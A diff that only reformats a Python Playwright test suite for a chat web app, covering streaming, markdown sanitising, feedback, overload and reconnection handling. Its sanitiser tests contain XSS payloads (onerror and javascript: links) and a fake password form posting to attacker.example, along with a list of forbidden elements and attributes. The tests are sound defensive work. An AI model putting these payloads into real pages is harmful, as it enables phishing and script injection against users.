@@ -39,32 +39,44 @@ from workers import sim_engine
 CHROMIUM = Path("/usr/bin/chromium")
 # Without the background-networking flags Chromium dials out at start, which a closed
 # network refuses.
-LAUNCH_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-               "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+LAUNCH_ARGS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
 
 pytestmark = [
-    pytest.mark.skipif(not CHROMIUM.exists(),
-                       reason="Chromium is not installed (`make setup` installs it)"),
+    pytest.mark.skipif(
+        not CHROMIUM.exists(), reason="Chromium is not installed (`make setup` installs it)"
+    ),
     pytest.mark.usefixtures("warm_stacks"),
 ]
 expect.set_options(timeout=20_000)
 
-EMAIL_REPLY = ("[[sim:reply=Sure. You can write to bob@example.com for the details. "
-               + " ".join(f"word{i}" for i in range(150)) + "]]")
+EMAIL_REPLY = (
+    "[[sim:reply=Sure. You can write to bob@example.com for the details. "
+    + " ".join(f"word{i}" for i in range(150))
+    + "]]"
+)
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="session")
 async def browser() -> AsyncIterator[Browser]:
     async with async_playwright() as playwright:
-        browser = await playwright.chromium.launch(executable_path=str(CHROMIUM),
-                                                   args=LAUNCH_ARGS)
+        browser = await playwright.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
         yield browser
         await browser.close()
 
 
 @contextlib.asynccontextmanager
-async def chat_page(browser: Browser, stack: Stack, api_key: str = API_KEY,
-                    url: str | None = None) -> AsyncIterator[Page]:
+async def chat_page(
+    browser: Browser, stack: Stack, api_key: str = API_KEY, url: str | None = None
+) -> AsyncIterator[Page]:
     """A fresh browser profile on the page (at `url`, else the stack's), signed in; fails
     on any uncaught script error."""
     context = await browser.new_context(viewport={"width": 1280, "height": 800})
@@ -150,9 +162,12 @@ async def test_answer_streams_in_as_it_is_generated(browser, slow_stack):
         await expect(page.get_by_role("button", name="Stop")).to_be_visible()
         lengths = []
         while await page.get_by_role("button", name="Stop").count():
-            lengths.append(await page.evaluate(
-                "document.querySelector('.msg.assistant:last-child .content')"
-                "?.innerText.length ?? 0"))
+            lengths.append(
+                await page.evaluate(
+                    "document.querySelector('.msg.assistant:last-child .content')"
+                    "?.innerText.length ?? 0"
+                )
+            )
             await asyncio.sleep(0.05)
         text = await answered(page)
 
@@ -167,8 +182,11 @@ async def test_answer_streams_in_as_it_is_generated(browser, slow_stack):
 
 async def test_answer_markdown_is_rendered_and_sanitised(browser, sim_stack):
     async with chat_page(browser, sim_stack) as page:
-        await send(page, "[[sim:reply=Use **bold** and `code` <img src=x onerror=alert(1)> "
-                         "<a href=javascript:alert(1)>link</a>]]")
+        await send(
+            page,
+            "[[sim:reply=Use **bold** and `code` <img src=x onerror=alert(1)> "
+            "<a href=javascript:alert(1)>link</a>]]",
+        )
         await answered(page)
         answer = last_answer(page).locator(".content")
         await expect(answer.locator("strong")).to_have_text("bold")
@@ -178,15 +196,19 @@ async def test_answer_markdown_is_rendered_and_sanitised(browser, sim_stack):
         await expect(page.locator(".msg.user img")).to_have_count(0)
 
 
-FORM_REPLY = ("[[sim:reply=Please confirm: <form action=https://attacker.example/steal method=post>"
-              "<input name=password placeholder=Password><textarea name=note></textarea>"
-              "<select name=s><option>one</option></select>"
-              "<button formaction=https://attacker.example/go onclick=alert(1)>Confirm</button>"
-              "</form> <iframe src=https://attacker.example/></iframe>"
-              "<style>body{display:none}</style> <embed src=x> <object data=x></object> "
-              "<a href=# style=position:fixed onmouseover=alert(1)>done</a>]]")
-ANSWER_FORBIDDEN = ("form, input, button, textarea, select, option, iframe, object, embed, style, "
-                    "[formaction], [onclick], [onmouseover], [style]")
+FORM_REPLY = (
+    "[[sim:reply=Please confirm: <form action=https://attacker.example/steal method=post>"
+    "<input name=password placeholder=Password><textarea name=note></textarea>"
+    "<select name=s><option>one</option></select>"
+    "<button formaction=https://attacker.example/go onclick=alert(1)>Confirm</button>"
+    "</form> <iframe src=https://attacker.example/></iframe>"
+    "<style>body{display:none}</style> <embed src=x> <object data=x></object> "
+    "<a href=# style=position:fixed onmouseover=alert(1)>done</a>]]"
+)
+ANSWER_FORBIDDEN = (
+    "form, input, button, textarea, select, option, iframe, object, embed, style, "
+    "[formaction], [onclick], [onmouseover], [style]"
+)
 
 
 async def test_an_answer_cannot_render_a_form_or_an_input(browser, sim_stack):
@@ -205,9 +227,12 @@ async def test_an_answer_cannot_render_a_form_or_an_input(browser, sim_stack):
                  box.innerHTML = renderMarkdown(html);
                  return [box.querySelectorAll(forbidden).length, box.textContent];
                }""",
-            {"html": '<form action="/x"><input name="q"><button formaction="/y">Go</button>'
-                     '</form><iframe srcdoc="<p>x</p>"></iframe><p onclick="alert(1)">kept</p>',
-             "forbidden": ANSWER_FORBIDDEN})
+            {
+                "html": '<form action="/x"><input name="q"><button formaction="/y">Go</button>'
+                '</form><iframe srcdoc="<p>x</p>"></iframe><p onclick="alert(1)">kept</p>',
+                "forbidden": ANSWER_FORBIDDEN,
+            },
+        )
         assert rendered[0] == 0, rendered
         assert "kept" in rendered[1] and "Go" in rendered[1]
 
@@ -278,8 +303,13 @@ async def test_thumbs_under_an_answer_send_feedback_to_chat_feedback(browser, si
         await expect(bad).to_have_attribute("aria-pressed", "true")
         await expect(good).to_have_attribute("aria-pressed", "false")
 
-    ratings = await find_events(sim_stack.kafka, topics.FEEDBACK, FeedbackEvent,
-                                lambda e: e.message_id == answer_id, count=2)
+    ratings = await find_events(
+        sim_stack.kafka,
+        topics.FEEDBACK,
+        FeedbackEvent,
+        lambda e: e.message_id == answer_id,
+        count=2,
+    )
     assert [(e.rating, e.user_id) for e in ratings] == [("up", "dev"), ("down", "dev")]
 
 
@@ -332,9 +362,18 @@ async def test_retracted_answer_is_replaced_by_a_notice(browser, sim_stack):
 
 async def test_overload_before_the_stream_shows_the_retry_time(browser, sim_stack):
     async def overloaded(route: Route) -> None:
-        await route.fulfill(status=503, headers={"Retry-After": "7"}, json={"error": {
-            "code": "overloaded", "message": "free tier is shedding", "type": "server_error",
-            "param": None}})
+        await route.fulfill(
+            status=503,
+            headers={"Retry-After": "7"},
+            json={
+                "error": {
+                    "code": "overloaded",
+                    "message": "free tier is shedding",
+                    "type": "server_error",
+                    "param": None,
+                }
+            },
+        )
 
     async with chat_page(browser, sim_stack) as page:
         await page.route("**/v1/conversations/*/messages", overloaded)
@@ -348,17 +387,28 @@ async def test_overload_before_the_stream_shows_the_retry_time(browser, sim_stac
 async def test_overload_inside_the_stream_and_a_lost_connection_are_shown(browser, sim_stack):
     """A stream that ends short is followed again from its last id; the gateway knows no
     request `r2` (404), so the answer shows the connection as lost."""
+
     async def error_event(route: Route) -> None:
-        await route.fulfill(status=200, content_type="text/event-stream", body=(
-            'event: request\ndata: {"request_id": "r1", "message_id": "m1", '
-            '"user_message_id": "u1"}\n\n'
-            'event: error\ndata: {"code": "overloaded", "message": "try later", '
-            '"retry_after": 5}\n\ndata: [DONE]\n\n'))
+        await route.fulfill(
+            status=200,
+            content_type="text/event-stream",
+            body=(
+                'event: request\ndata: {"request_id": "r1", "message_id": "m1", '
+                '"user_message_id": "u1"}\n\n'
+                'event: error\ndata: {"code": "overloaded", "message": "try later", '
+                '"retry_after": 5}\n\ndata: [DONE]\n\n'
+            ),
+        )
 
     async def cut_off(route: Route) -> None:
-        await route.fulfill(status=200, content_type="text/event-stream", body=(
-            'event: request\ndata: {"request_id": "r2", "message_id": "m2", '
-            '"user_message_id": "u2"}\n\nid: 0\nevent: delta\ndata: {"delta": "Half an"}\n\n'))
+        await route.fulfill(
+            status=200,
+            content_type="text/event-stream",
+            body=(
+                'event: request\ndata: {"request_id": "r2", "message_id": "m2", '
+                '"user_message_id": "u2"}\n\nid: 0\nevent: delta\ndata: {"delta": "Half an"}\n\n'
+            ),
+        )
 
     async with chat_page(browser, sim_stack) as page:
         resumes = []
@@ -367,7 +417,8 @@ async def test_overload_inside_the_stream_and_a_lost_connection_are_shown(browse
         await page.route("**/v1/conversations/*/messages", error_event)
         await send(page, "one")
         await expect(last_answer(page).locator(".notice.error")).to_contain_text(
-            "Too many requests right now — try again in 5 s.")
+            "Too many requests right now — try again in 5 s."
+        )
 
         await page.unroute("**/v1/conversations/*/messages")
         await page.route("**/v1/conversations/*/messages", cut_off)
@@ -379,8 +430,9 @@ async def test_overload_inside_the_stream_and_a_lost_connection_are_shown(browse
                 for r in resumes] == [("GET", "/requests/r2/events", "0")]  # fmt: skip
 
 
-async def test_a_dropped_connection_is_followed_again_where_it_stopped(browser, slow_stack,
-                                                                      monkeypatch):
+async def test_a_dropped_connection_is_followed_again_where_it_stopped(
+    browser, slow_stack, monkeypatch
+):
     hold_dropped_answers(slow_stack, monkeypatch)
     async with (CuttingProxy(slow_stack.base_url, deltas=8) as proxy,
                 chat_page(browser, slow_stack, url=proxy.url) as page):  # fmt: skip
@@ -389,7 +441,8 @@ async def test_a_dropped_connection_is_followed_again_where_it_stopped(browser, 
         streamed = asyncio.Event()
         await page.route(re.compile(r"/v1/conversations/[\w-]+$"), held_until(streamed))
         reconnecting = asyncio.ensure_future(
-            page.wait_for_selector(".msg.assistant .notice.reconnecting"))
+            page.wait_for_selector(".msg.assistant .notice.reconnecting")
+        )
         await send(page, "[[sim:length=120]]")
         await reconnecting
         assert proxy.cut.is_set()
@@ -435,10 +488,12 @@ async def test_stop_while_reconnecting_cancels_the_answer(browser, slow_stack, m
 
 def held_until(released: asyncio.Event):
     """A route handler that lets GET requests through once `released` is set."""
+
     async def hold(route: Route) -> None:
         if route.request.method == "GET":
             await released.wait()
         await route.continue_()
+
     return hold
 
 
@@ -489,11 +544,13 @@ SCREENSHOT_ANSWERS = {
         "3. The **worker** streams tokens to `chat.tokens`; the safety stage checks them "
         "and relays them to your gateway.\n\n"
         "Your browser reads them as server-sent events:\n\n"
-        '```\nevent: delta\ndata: {"delta": "Hello"}\n```'),
+        '```\nevent: delta\ndata: {"delta": "Hello"}\n```'
+    ),
     "And if I close the tab halfway?": (
         "The gateway notices the disconnect and publishes a `cancel` on `chat.control`. "
         "A queued request is **never dispatched**; a running one is aborted within one "
-        "engine step, so no GPU time goes to output nobody reads."),
+        "engine step, so no GPU time goes to output nobody reads."
+    ),
 }
 SCREENSHOT_TITLE = "Streaming answers through Kafka"
 
@@ -501,13 +558,15 @@ SCREENSHOT_TITLE = "Streaming answers through Kafka"
 def _canned_reply(original):
     def plan(request):
         if not request.store:  # the conversation's title
-            return sim_engine.ReplyPlan(tuple(re.findall(r"\s*\S+", SCREENSHOT_TITLE)),
-                                        RequestStatus.FINISHED_STOPPED)
+            return sim_engine.ReplyPlan(
+                tuple(re.findall(r"\s*\S+", SCREENSHOT_TITLE)), RequestStatus.FINISHED_STOPPED
+            )
         question = request.messages[-1].content
         if question not in SCREENSHOT_ANSWERS:
             return original(request)
         tokens = re.findall(r"\s*\S+", SCREENSHOT_ANSWERS[question])
         return sim_engine.ReplyPlan(tuple(tokens), RequestStatus.FINISHED_STOPPED)
+
     return plan
 
 
@@ -515,8 +574,11 @@ async def test_screenshot_of_a_streamed_conversation(browser, sim_stack, monkeyp
     monkeypatch.setattr(sim_engine, "plan_reply", _canned_reply(sim_engine.plan_reply))
     key = await new_user(sim_stack)
     async with client_for(sim_stack, key) as client:
-        for title in ("Fair queues across tiers", "Why was my answer retracted?",
-                      "Benchmarks on two CPU cores"):
+        for title in (
+            "Fair queues across tiers",
+            "Why was my answer retracted?",
+            "Benchmarks on two CPU cores",
+        ):
             await client.post("/v1/conversations", json={"title": title})
     async with chat_page(browser, sim_stack, key) as page:
         for question in SCREENSHOT_ANSWERS:
@@ -524,8 +586,9 @@ async def test_screenshot_of_a_streamed_conversation(browser, sim_stack, monkeyp
             await answered(page)
         await last_answer(page).get_by_role("button", name="Regenerate").click()
         await expect(last_answer(page).locator(".siblings .count")).to_have_text("2 / 2")
-        await expect(page.locator(".conversation.current")).to_have_text(SCREENSHOT_TITLE,
-                                                                        timeout=10_000)
+        await expect(page.locator(".conversation.current")).to_have_text(
+            SCREENSHOT_TITLE, timeout=10_000
+        )
         await expect(page.locator(".msg.assistant pre code")).to_contain_text("event: delta")
         await page.mouse.move(0, 0)
         path = Path(os.environ.get("CHATPIPE_SCREENSHOT") or tmp_path / "screenshot.png")
